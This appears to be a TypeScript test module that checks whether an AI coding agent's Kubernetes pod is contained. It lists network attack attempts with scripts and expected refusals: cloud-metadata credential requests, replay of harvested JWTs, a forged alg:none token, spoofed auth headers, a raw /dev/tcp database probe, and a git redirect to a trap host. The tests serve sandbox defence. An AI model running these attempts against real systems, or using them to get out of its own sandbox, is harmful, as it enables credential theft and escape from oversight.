import type { GuardedRelease } from "../guarded-release.ts"
import type { Attempt } from "./attempt.ts"

/** Where things are, as an attacker would find out by himself. */
export interface Addresses {
  readonly namespace: string
  readonly node: string
  readonly controlPlane: string
  /** Of another session's pod. */
  readonly otherSession: string
}

/** In a cluster that enforces policies, most of these end before the first word. */
const policy = "NetworkPolicy where it is enforced; else"

/** What can be tried at everything that has an address. */
export function overTheNetwork(guarded: GuardedRelease, at: Addresses): readonly Attempt[] {
  return [...atTheCluster(at), ...atBerth(at), ...pastTheGateway(guarded)]
}

function atTheCluster(at: Addresses): Attempt[] {
  const secrets = `api/v1/namespaces/${at.namespace}/secrets`
  return [
    {
      name: "cloud metadata",
      refusedBy: `${policy} there is none here`,
      script: `ask -m 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/
        ask -m 3 -H 'Metadata-Flavor: Google' http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token`,
      refusal: /timed out|Failed to connect|Couldn't connect|unreachable|refused|\[HTTP 403\]/,
    },
    {
      name: "the API server without a token",
      refusedBy: `${policy} its own permissions`,
      script: `ask -k https://kubernetes.default.svc/${secrets}; ask -k https://${at.node}:6443/${secrets}`,
      refusal: /system:anonymous\\?" cannot list resource \\?"secrets|"code": 401/,
    },
    {
      name: "the API server with every word that looks like a token",
      refusedBy: `${policy} no token is in the agent's reach`,
      script: `for token in $(cat "$loot"/*.txt 2>/dev/null | grep -aoE 'eyJ[A-Za-z0-9_-]+\\.[A-Za-z0-9_-]+\\.[A-Za-z0-9_-]+' | sort -u) "$OPENCODE_SERVER_PASSWORD"; do
        ask -k https://kubernetes.default.svc/${secrets} -H "Authorization: Bearer $token"; done`,
      refusal: /Unauthorized.*\[HTTP 401\]/s,
    },
    {
      name: "the kubelet",
      refusedBy: `${policy} its own sign-in`,
      script: `ask -k https://${at.node}:10250/pods; ask -k https://${at.node}:10250/runningpods/`,
      refusal: /Unauthorized.*\[HTTP 401\]/s,
    },
  ]
}

function atBerth(at: Addresses): Attempt[] {
  const broker = `https://berth-broker.${at.namespace}.svc:8081`
  const startup = "\\x00\\x00\\x00\\x29\\x00\\x03\\x00\\x00user\\x00postgres\\x00database\\x00postgres\\x00\\x00"
  const encoded = (value: object) => Buffer.from(JSON.stringify(value)).toString("base64url")
  const subject = `system:serviceaccount:${at.namespace}:berth-session`
  const forged = `${encoded({ alg: "none" })}.${encoded({ aud: ["berth-broker"], sub: subject })}.`
  return [
    {
      name: "another session's agent",
      refusedBy: `${policy} its own password`,
      script: `ask http://${at.otherSession}:4096/session; ask -u "opencode:$OPENCODE_SERVER_PASSWORD" http://${at.otherSession}:4096/session`,
      refusal: /\[HTTP 401\].*\[HTTP 401\]/s,
    },
    {
      name: "another session's sidecar",
      refusedBy: "it listens on loopback only",
      script: `ask http://${at.otherSession}:7070/v1/workload; ask http://${at.otherSession}:7071/v1/workload`,
      refusal: /(refused|Couldn't connect|Failed to connect).*not found.*\[HTTP 404\]/s,
    },
    {
      name: "the control plane's API",
      refusedBy: `${policy} its sign-in`,
      script: `for path in me sessions users providers; do ask http://${at.controlPlane}:8080/api/$path -H 'Host: 127.0.0.1' \\
        -H 'X-Forwarded-User: owner@example.com' -H 'X-WEBAUTH-USER: owner@example.com' -H "Authorization: Bearer $OPENCODE_SERVER_PASSWORD"; done`,
      refusal: /(\[HTTP 401\].*){4}/s,
    },
    {
      name: "the control plane's figures",
      refusedBy: `${policy} no secret is in them`,
      script: `ask http://${at.controlPlane}:9090/metrics >"$loot/metrics.txt"; tail -c 12 "$loot/metrics.txt"; ask http://${at.controlPlane}:9090/debug/pprof`,
      refusal: /\[HTTP (200|404)\]/,
    },
    {
      name: "the broker without a token",
      refusedBy: "broker: a pod's token is needed",
      script: `ask -k ${broker}/v1/workload; ask -k ${broker}/v1/llm/demo/models`,
      refusal: /A pod's token is needed.*\[HTTP 401\].*\[HTTP 401\]/s,
    },
    {
      name: "the broker with tokens of its own making",
      refusedBy: "broker: signature, issuer, audience",
      script: `for token in ${forged} ${forged}x "$OPENCODE_SERVER_PASSWORD"; do ask -k ${broker}/v1/workload -H "Authorization: Bearer $token"; done`,
      refusal: /(\[HTTP 401\].*){3}/s,
    },
    {
      name: "the database",
      refusedBy: `${policy} its password (SCRAM)`,
      script: `exec 3<>/dev/tcp/berth-postgresql.${at.namespace}.svc/5432; printf '${startup}' >&3; timeout 20 head -c 24 <&3 | tr -c '[:print:]' .`,
      refusal: /SCRAM-SHA-256/,
    },
  ]
}

function pastTheGateway({ hosts, otherRepository }: GuardedRelease): Attempt[] {
  return [
    {
      name: "the model provider past the gateway",
      refusedBy: `${policy} the key is not here`,
      script: `ask http://${hosts.models}/demo/v1/models -H 'Authorization: Bearer kept-outside-of-this-pod'`,
      refusal: /a key is needed.*\[HTTP 401\]/,
    },
    {
      name: "the git host past the gateway",
      refusedBy: `${policy} the token is not here`,
      script: `GIT_CONFIG_GLOBAL=/dev/null git ls-remote ${otherRepository}`,
      refusal: /could not read Username|Authentication failed/,
    },
    {
      name: "git's addresses bent to another host",
      refusedBy: "the token is added by the broker only",
      script: `cd /workspace/repo; export GIT_CONFIG_GLOBAL=/dev/null
        git -c safe.directory='*' -c url.http://${hosts.trap}/.insteadOf=http://${hosts.git}/ push origin HEAD:refs/heads/taken`,
      refusal: /fatal: .*not found|fatal: .*not valid|fatal: .*info\/refs/,
    },
  ]
}
